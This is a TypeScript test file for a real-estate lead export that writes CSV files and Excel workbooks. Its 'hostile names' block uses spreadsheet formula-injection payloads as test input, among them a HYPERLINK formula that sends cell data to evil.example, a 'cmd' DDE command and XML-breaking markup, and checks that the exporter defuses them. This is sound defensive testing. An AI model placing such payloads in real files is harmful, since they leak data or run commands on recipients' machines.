import { describe, expect, test } from 'vitest'
import { guardCell, writeCsvRows } from '#contract/csv.ts'
import { FILE_PRESET_LIST } from '#contract/delivery/file-presets.ts'
import { FORGOTTEN, leadSheet, type SheetLead, WITHDRAWN } from '#contract/delivery/lead-sheet.ts'
import { sampleFileSheet } from '#contract/delivery/sample-leads.ts'
import { aSheetLead, SHEET_LEADS } from '#testing/sheet-leads.ts'
import { sheetXmlOf, workbookRows } from '#testing/workbook-rows.ts'
import { workbookOf } from './make-files.ts'
import { presetSheet } from './preset-columns.ts'

const PLACE = { state: 'Texas', county: 'Travis', leadTypeName: 'Vacant Houses', timeZone: 'America/Chicago' }

/** The cells of the first lead by their columns. */
function cellsOf(...leads: SheetLead[]): Record<string, unknown> {
  const [header = [], row = []] = leadSheet(leads, PLACE)
  return Object.fromEntries(header.map((name, index) => [name, row[index]]))
}

test('a row has amounts as numbers, and ZIPs and foreign telephone numbers as text', () => {
  const phones = [{ number: '+442079460000', kind: 'landline', isDoNotCall: false } as const]
  const cells = cellsOf(aSheetLead({ zip: '01234', phones, facts: { valueCents: 31_250_050, beds: 3 } }))
  expect(cells).toMatchObject({ ZIP: '01234', 'Phone 1': '00442079460000', Value: 312_500.5, Beds: 3 })
})

test('a row gives the day a lead was found in the store’s time zone', () => {
  const acquired_at = new Date('2026-11-18T03:00:00Z')
  expect(cellsOf(aSheetLead({ acquired_at }))).toMatchObject({ 'Date found': '2026-11-17', 'Age in days': 3 })
})

test('a row of a lead whose data was deleted says so and keeps its place', () => {
  const gone = aSheetLead({
    ...{ address: null, city: null, zip: null, owner_names: null, phones: null, emails: null, facts: null },
    ...{ source: null, is_left_alone: true },
  })

  expect(cellsOf(gone)).toMatchObject({ Address: WITHDRAWN, Owner: null, 'Phone 1': null, 'Age in days': 2 })
  expect(cellsOf({ ...gone, is_left_alone: false })).toMatchObject({ Address: FORGOTTEN, Owner: null })
})

test('the file has the columns of the sample, and as many for phones and emails as one lead needs', () => {
  const phone = { number: '+15125550100', kind: 'mobile' as const, isDoNotCall: false }
  const rich = aSheetLead({ phones: [phone, phone, phone], emails: ['a@b.c', 'd@e.f'] })
  const [header = []] = leadSheet([aSheetLead(), rich], PLACE)
  expect(header.filter((name) => /^Phone \d$/.test(String(name)))).toHaveLength(3)
  expect(header.filter((name) => /^Email \d$/.test(String(name)))).toHaveLength(2)
  expect(leadSheet([], PLACE)[0]).toEqual(sampleFileSheet()[0])
})

describe('hostile names', () => {
  const HOSTILE = [
    ...['=HYPERLINK("http://evil.example/?"&A1,"Call me")', '+1+cmd|"/C calc"!A0', '-2+3', '@SUM(A1)', '\t=1+1'],
    ...['\r=1+1', '＝1+1', 'Ann;＠SUM(A1)', 'a "quoted", name\r\nwith lines', '</t></is></c><c><f>1+1</f></c>'],
    ...['__proto__', 'constructor', 'half \ud800 letter', 'zero \u0001 control'],
  ]
  const rows = leadSheet(
    HOSTILE.map((name) => aSheetLead({ owner_names: [name] })),
    PLACE,
  )

  test('start no CSV cell with a character that makes a spreadsheet calculate it', () => {
    const cells = writeCsvRows(rows)
      .split(/,|\r\n/)
      .map((cell) => cell.replace(/^"/, ''))
    expect(cells.flatMap((cell) => cell.split(';')).filter((cell) => /^[=+\-@＝＋－＠\t\r]/.test(cell))).toEqual([])
    expect(cells.filter((cell) => cell.startsWith("'")).length).toBeGreaterThanOrEqual(6)
  })

  test('stay text in a workbook, guarded as in CSV, complete except for characters not allowed in XML', () => {
    const read = workbookRows(workbookOf(rows))
    const column = (rows[0] ?? []).indexOf('Owner')
    expect(read.slice(1).map((row) => row[column])).toEqual(
      HOSTILE.map((name) => guardCell(name).toWellFormed().replaceAll('\u0001', '')),
    )
  })
})

test('a workbook has days as dates and values as dollars, and keeps ZIP codes and days before 1900 as text', () => {
  const facts = { valueCents: 31_250_050, lastSaleOn: '1899-06-17' }
  const xml = sheetXmlOf(
    workbookOf(leadSheet([...SHEET_LEADS.slice(0, 1), aSheetLead({ zip: '02101', facts })], PLACE)),
  )
  expect(xml).toContain(' s="3"><v>312500.5</v>')
  // 2003-06-17 and 2026-11-18, as Excel counts days.
  expect(xml).toContain(' s="2"><v>37789</v>')
  expect(xml).toContain(' s="2"><v>46344</v>')
  expect(xml).toMatch(/ t="inlineStr"><is><t [^>]*>1899-06-17</)
  expect(xml).toMatch(/ s="0" t="inlineStr"><is><t [^>]*>02101</)
})

// They are compared with files that a person has read. After a change on purpose, run this with `-u` and read the changes.
test('the plain file has the columns and cells that its buyers know, with the parts beside them', async () => {
  await expect(writeCsvRows(leadSheet(SHEET_LEADS, PLACE))).toMatchFileSnapshot('preset-files/plain.csv')
})

describe.each(FILE_PRESET_LIST)('the file for %s', (preset) => {
  const rows = presetSheet(preset, SHEET_LEADS, PLACE)
  const text = writeCsvRows(rows)

  test('is the file that was read by a person', async () => {
    await expect(text).toMatchFileSnapshot(`preset-files/${preset}.csv`)
  })

  test('has each column once, and the same ones whatever is in it', () => {
    const [header = []] = rows
    expect(new Set(header.map((name) => String(name).toLowerCase())).size).toBe(header.length)
    expect(presetSheet(preset, [], PLACE)).toEqual([header])
    for (const row of rows) expect(row).toHaveLength(header.length)
  })

  test('starts no cell like a formula', () => {
    const cells = text.split(/,|\r\n/).map((cell) => cell.replace(/^"/, ''))
    expect(cells.filter((cell) => /^[=+\-@\t]/.test(cell))).toEqual([])
    if (preset !== 'dialer') expect(cells.filter((cell) => cell.startsWith("'")).length).toBeGreaterThanOrEqual(6)
  })

  test('has no lead whose owner opted out, and no number that must not be called in a phone column', () => {
    const [header = [], ...leads] = rows
    const phones = header.flatMap((name, at) =>
      /phone/i.test(String(name)) && !/not call|type/i.test(String(name)) ? [at] : [],
    )
    expect(text).not.toMatch(/Opted Out|6 Elm St|Withdrawn/)
    expect(phones.length).toBeGreaterThan(0)
    for (const row of leads) for (const at of phones) expect(String(row[at])).not.toMatch(/5125550101|5125550106/)
  })
})

test('a dialer gets a row for each phone that may be called, and none for an owner without one', () => {
  const [header = [], ...rows] = presetSheet('dialer', SHEET_LEADS, PLACE)
  expect(rows.map((row) => row[header.indexOf('Phone')])).toEqual([
    ...['5125550100', '5125550102', '5125550103', '5125550104'],
    '5125550105',
  ])
})
